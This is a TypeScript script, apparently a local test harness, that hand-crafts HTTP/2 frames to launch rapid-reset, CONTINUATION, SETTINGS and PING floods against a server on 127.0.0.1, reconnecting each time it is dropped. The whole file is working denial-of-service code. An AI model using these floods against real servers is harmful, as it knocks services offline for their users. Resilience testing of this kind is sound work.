// An HTTP/2 client with bad intent, by prior knowledge, frames by hand: it floods as fast as it is read from, and comes back
// at once when it is shown the door. `burn` floods nobody: the same heat on its core, to tell what the core alone costs.
// node hostile-client.ts KIND PORT CONNECTIONS SECONDS; prints what it did as JSON.

import { connect } from 'node:net';

const FRAME = { HEADERS: 1, RST_STREAM: 3, SETTINGS: 4, PING: 6, CONTINUATION: 9 } as const;
const END_STREAM = 1;
const END_HEADERS = 4;
const CANCEL = 8;
const ADDRESSES = 8;
/** Each kind has a network of its own: who has flooded may be made to wait, and that is not to hide the next flood. */
const NETWORKS = { 'rapid-reset': 10, continuation: 11, settings: 12, ping: 13, burn: 14 } as const;
/** Frames, or pairs of them, in one write. */
const IN_ONE_WRITE = 100;
/** Then others get their turn, and the news that the door is shut. */
const WRITES_A_TURN = 4;
const LAST_STREAM = 2 ** 31 - 1;
const RECONNECT_AFTER_MS = 1;

const kind = process.argv[2] as 'rapid-reset' | 'continuation' | 'settings' | 'ping' | 'burn';
const [port, connections, seconds] = process.argv.slice(3).map(Number) as [number, number, number];
const done = { connections: 0, frames: 0 };
let isOver = false;

const preface = Buffer.concat([Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'), frame(FRAME.SETTINGS, 0, 0, [])]);
/** GET http://localhost/small: three of the static table, a literal path and authority. */
const head = [0x82, 0x86, 0x04, 6, ...Buffer.from('/small'), 0x01, 9, ...Buffer.from('localhost')];
/** More fields of a head that never ends. */
const CONTINUATIONS = Buffer.concat(
  Array.from({ length: IN_ONE_WRITE }, () =>
    frame(FRAME.CONTINUATION, 0, 1, [0x00, 1, 0x78, 16, ...Buffer.alloc(16, 'x')]),
  ),
);

const SETTINGS = Buffer.concat(Array.from({ length: IN_ONE_WRITE }, () => frame(FRAME.SETTINGS, 0, 0, [])));
const PINGS = Buffer.concat(
  Array.from({ length: IN_ONE_WRITE }, () => frame(FRAME.PING, 0, 0, [1, 2, 3, 4, 5, 6, 7, 8])),
);

setTimeout(() => {
  isOver = true;
  console.log(JSON.stringify(done));
  process.exit(0);
}, seconds * 1000);
if (kind === 'burn') burn();
else for (let i = 0; i < connections; i++) attack(i);

function burn(): void {
  const untilMs = performance.now() + 1;
  while (performance.now() < untilMs);
  setImmediate(burn);
}

function attack(i: number): void {
  if (isOver) return;
  const socket = connect({ port, host: '127.0.0.1', localAddress: `127.0.${NETWORKS[kind]}.${2 + (i % ADDRESSES)}` });
  let stream = 1;
  const flood = () => {
    for (let writes = 0; writes < WRITES_A_TURN; writes++) {
      if (!socket.writable) return;
      if (stream >= LAST_STREAM - 2 * IN_ONE_WRITE) return void socket.destroy();
      const bytes = bytesOf(stream);
      done.frames += kind === 'rapid-reset' ? 2 * IN_ONE_WRITE : IN_ONE_WRITE;
      if (kind === 'rapid-reset') stream += 2 * IN_ONE_WRITE;
      if (!socket.write(bytes)) return; // on drain
    }
    setImmediate(flood);
  };
  socket.on('connect', () => {
    done.connections++;
    socket.write(preface);
    if (kind === 'continuation') socket.write(frame(FRAME.HEADERS, END_STREAM, 1, head));
    flood();
  });
  socket.on('drain', flood);
  socket.on('data', () => {}); // settings, resets, GOAWAY: it does not care
  socket.on('error', () => socket.destroy());
  socket.on('end', () => socket.destroy());
  socket.on('close', () => setTimeout(() => attack(i + connections), RECONNECT_AFTER_MS));
}

function bytesOf(stream: number): Buffer {
  if (kind === 'rapid-reset') return resets(stream);
  return kind === 'settings' ? SETTINGS : kind === 'ping' ? PINGS : CONTINUATIONS;
}

function resets(first: number): Buffer {
  const parts: Buffer[] = [];
  for (let stream = first; stream < first + 2 * IN_ONE_WRITE; stream += 2) {
    parts.push(frame(FRAME.HEADERS, END_STREAM | END_HEADERS, stream, head));
    parts.push(frame(FRAME.RST_STREAM, 0, stream, [0, 0, 0, CANCEL]));
  }
  return Buffer.concat(parts);
}

function frame(type: number, flags: number, stream: number, payload: readonly number[]): Buffer {
  const bytes = Buffer.alloc(9 + payload.length);
  bytes.writeUIntBE(payload.length, 0, 3);
  bytes[3] = type;
  bytes[4] = flags;
  bytes.writeUInt32BE(stream, 5);
  bytes.set(payload, 9);
  return bytes;
}
